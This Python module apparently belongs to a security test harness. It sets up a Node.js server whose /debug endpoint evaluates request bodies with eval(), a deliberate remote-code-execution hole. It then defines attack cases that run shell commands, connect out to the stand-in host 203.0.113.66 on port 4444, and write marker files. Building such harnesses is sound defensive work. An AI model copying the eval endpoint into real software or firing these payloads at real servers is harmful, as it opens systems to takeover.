"""A Node application: pages, uploads, a program it starts, and an endpoint that evaluates what it is given."""

from collections.abc import Callable

from demo.programs.life import Life
from demo.programs.program import Attack, File, Program, called_home, left
from demo.programs.visitor import Visitor

_APP = """
const http = require('http'), fs = require('fs'), path = require('path'), crypto = require('crypto')
const { execFile } = require('child_process')
const uploads = '/var/lib/app/uploads'
function body(request, then) {
  const parts = []
  request.on('data', part => parts.push(part)).on('end', () => then(Buffer.concat(parts)))
}
const server = http.createServer((request, response) => {
  if (request.url === '/upload') return body(request, data => {
    const name = path.join(uploads, crypto.randomUUID())
    fs.writeFileSync(name + '.part', data)
    fs.renameSync(name + '.part', name)
    execFile('sha256sum', [name], (error, out) => response.end(error ? String(error) : 'digest ' + out))
  })
  if (request.url === '/origin') return http.get('http://10.0.0.5:8081/from-node', answer => answer.pipe(response))
  if (request.url === '/debug') return body(request, code => {
    try { response.end(String(eval(String(code)))) } catch (error) { response.statusCode = 500; response.end(String(error)) }
  })
  fs.appendFile('/var/lib/app/access.log', request.url + '\\n', () => response.end('Ordinary page'))
})
server.listen(3000)
process.on('SIGTERM', () => process.exit(0))
process.on('SIGHUP', () => fs.rename('/var/lib/app/access.log', '/var/lib/app/access.log.' + Date.now(), () => {}))
"""


def _load(visitor: Visitor) -> None:
    for _ in range(10):
        visitor.get("/", b"Ordinary")
        visitor.post("/upload", b"data" * 1000, b"digest")
        visitor.get("/origin", b"from-node")
    visitor.run(
        *"ab -q -n 300 -c 10 http://127.0.0.1:3000/".split(), wanted="Failed requests:        0", times=300
    )


def _evaluate(code: str) -> Callable[[Life], object]:
    return lambda life: Visitor(life).fetch("/debug", body=code.encode())


PROGRAM = Program(
    name="node",
    package="nodejs",
    command=("node", "/srv/app/server.js"),
    user="www-data",
    port=3000,
    load=_load,
    rare=lambda visitor: visitor.life.signal("HUP"),
    files=(File("/srv/app/server.js", _APP),),
    prepare=("mkdir -p /var/lib/app/uploads", "chown -R www-data: /var/lib/app"),
    attacks=(
        Attack(
            "eval: execSync",
            _evaluate("require('child_process').execSync('id > /srv/shared/ran')"),
            left("ran"),
        ),
        Attack(
            "eval: connect",
            _evaluate("require('net').connect(4444, '203.0.113.66').on('error', () => 0) && 1"),
            called_home,
        ),
        Attack(
            "eval: write", _evaluate("require('fs').writeFileSync('/srv/shared/wrote', '')"), left("wrote")
        ),
    ),
)
